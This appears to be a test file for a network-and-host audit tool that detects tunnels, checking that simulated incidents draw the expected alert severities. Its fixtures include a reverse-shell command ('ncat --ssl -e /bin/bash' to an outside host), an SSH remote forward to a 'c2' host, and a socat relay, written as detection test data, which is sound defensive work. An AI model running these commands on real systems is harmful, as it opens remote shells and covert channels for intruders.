import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import type { Alert, HostAlert } from '../../src/model/alert.ts';
import type { Event } from '../../src/model/event.ts';
import { connection, execution, listener, type Process, T0 } from '../analytics/tunnel-host.ts';
import { browsing, type Flow, frames, HOUR, MINUTE, pcap, runAudit, stream, writeEvidence } from './build.ts';

const EXPORTER = '192.0.2.2';
const OUTSIDE = '203.0.113.9';
const CDN = '198.51.100.7';

/** As a collector recorded them: time and sender in front of each line of an event. */
const recorded = (events: readonly Event[], sender: string) =>
  events.flatMap((event) =>
    event.raw
      .split('\n')
      .map((line) => `${new Date(event.observedAtMs + 400).toISOString()} ${sender} ${line}`),
  );

const run = (line: string, process: Partial<Process>): Event => {
  const args = line.split(' ');
  return execution({ exe: `/usr/bin/${args[0]}`, args, ...process });
};
const www = { user: 'www-data', login: 'unset' };
const alice = { user: 'alice', login: 'alice', tty: 'pts0' };
const DAY = 24 * HOUR;

/** One incident a host; those from look1 on are none. */
const HOSTS: Readonly<Record<string, { events: readonly Event[]; flows?: (host: string) => Flow[] }>> = {
  shell: {
    events: [
      execution({ exe: '/usr/sbin/apache2', ...www, pid: 300, ppid: 1, atMs: T0 - HOUR }),
      run(`ncat --ssl -e /bin/bash ${OUTSIDE} 4444`, { ...www, pid: 310, ppid: 300, atMs: T0 }),
      connection({ exe: '/usr/bin/ncat', ...www, pid: 310, ppid: 300, atMs: T0 + 40 }, OUTSIDE, 4444),
    ],
    flows: (host) => stream(host, OUTSIDE, T0 + MINUTE, 8, 400, 0.6, { protocol: 6, port: 4444 }),
  },
  remote: {
    events: [run('ssh -fN -oRemoteForward=2222:localhost:22 c2.example.net', { ...www, atMs: T0 })],
    flows: (host) => stream(host, OUTSIDE, T0, 8, 300, 0.8, { protocol: 6, port: 22 }),
  },
  relay: { events: [run(`socat OPENSSL-LISTEN:443,fork TCP:${OUTSIDE}:8444`, { ppid: 1, atMs: T0 })] },
  config: {
    events: [
      run('ssh jump', { ...alice, pid: 320, atMs: T0 }),
      listener(
        { exe: '/usr/bin/ssh', args: ['ssh', 'jump'], ...alice, pid: 320, atMs: T0 + 900 },
        '127.0.0.1',
        8080,
      ),
    ],
  },
  look1: { events: [run('ssh -L 5432:10.20.0.5:5432 10.20.0.9', { ...alice, atMs: T0 })] },
  look2: {
    events: [
      run('ssh -J bastion 10.20.0.5', { ...alice, atMs: T0 }),
      run('nc -z 10.20.0.5 5432', { atMs: T0 + 500 }),
    ],
  },
  look3: {
    events: Array.from({ length: 6 }, (_, day) =>
      run('autossh -M 0 -N -R 2222:localhost:22 10.20.0.9', {
        ppid: 1,
        pid: 900 + day,
        atMs: T0 - (5 - day) * DAY,
      }),
    ),
  },
};

const names = Object.keys(HOSTS);
const addressOf = (name: string) => `10.20.0.${20 + names.indexOf(name)}`;

test('tunnels of recorded hosts are told with their flows, and what is approved, usual or none stays silent', {
  timeout: 240_000,
}, async () => {
  const folder = await mkdtemp(join(tmpdir(), 'postern-tunnels-'));
  try {
    const flows = names.flatMap((name) => [
      ...browsing(addressOf(name), CDN, T0 - 3 * HOUR, T0 + 20 * MINUTE, 30),
      ...(HOSTS[name].flows?.(addressOf(name)) ?? []),
    ]);
    const args = await writeEvidence(folder, {
      site: {
        internal: ['10.0.0.0/8'],
        devices: [],
        flowPorts: [2055],
        hosts: names.map((name) => ({ name, platform: 'linux', addresses: [addressOf(name)] })),
        categories: { AS64500: 'vps', AS64501: 'cdn' },
        asn: 'asn.tsv',
        approvedUses: [
          {
            hosts: ['look1'],
            users: ['alice'],
            tools: ['ssh'],
            destinations: ['10.20.0.0/24'],
            services: ['tcp/5432', 'tcp/22'],
            reason: 'database work',
          },
        ],
      },
      configs: {},
      captures: [pcap(frames(flows, EXPORTER))],
      logs: names.map((name) => recorded(HOSTS[name].events, addressOf(name))),
      files: {
        'asn.tsv':
          '198.51.100.0\t198.51.100.255\t64501\tUS\tEXAMPLE-CDN\n203.0.113.0\t203.0.113.255\t64500\tDE\tEXAMPLE-VPS\n',
      },
    });
    const outcome = await runAudit(args);
    assert.equal(outcome.status, 1, outcome.stderr);
    const own = (outcome.alerts as unknown as Alert[]).filter(
      (alert): alert is HostAlert => alert.analytic === 'AN1230',
    );
    const last = (host: string) => own.filter((alert) => alert.host === host).at(-1);
    assert.deepEqual(
      Object.fromEntries(names.map((name) => [name, last(name)?.severity])),
      {
        shell: 'critical',
        remote: 'high',
        relay: 'medium',
        config: 'low',
        look1: undefined,
        look2: undefined,
        look3: 'low',
      },
      outcome.stderr,
    );
    const shell = last('shell')!;
    assert.equal(new Set(own.filter(({ host }) => host === 'shell').map(({ id }) => id)).size, 1);
    assert.deepEqual(
      [shell.technique, shell.process?.user, shell.process?.parentExecutable],
      [['T1090'], 'www-data', '/usr/sbin/apache2'],
    );
    assert.deepEqual([...new Set(shell.stages.map(({ name }) => name))].sort(), [
      'connection',
      'flow',
      'process',
    ]);
    assert.deepEqual(shell.missingStages, []);
    assert.deepEqual(
      shell.destinations.map(({ address, category }) => [address, category]),
      [[OUTSIDE, 'vps']],
    );
    assert.match(shell.narrative, /www-data ran "ncat --ssl -e \/bin\/bash/);
    // The name in the command line, and the address by the port and the time of its flows.
    assert.deepEqual(
      last('remote')!.destinations.map(({ address }) => address),
      [OUTSIDE],
    );
    // Told in its first days, silent since.
    assert.ok(
      own.filter(({ host }) => host === 'look3').every(({ observedAt }) => Date.parse(observedAt) < T0 - DAY),
    );
  } finally {
    await rm(folder, { recursive: true });
  }
});
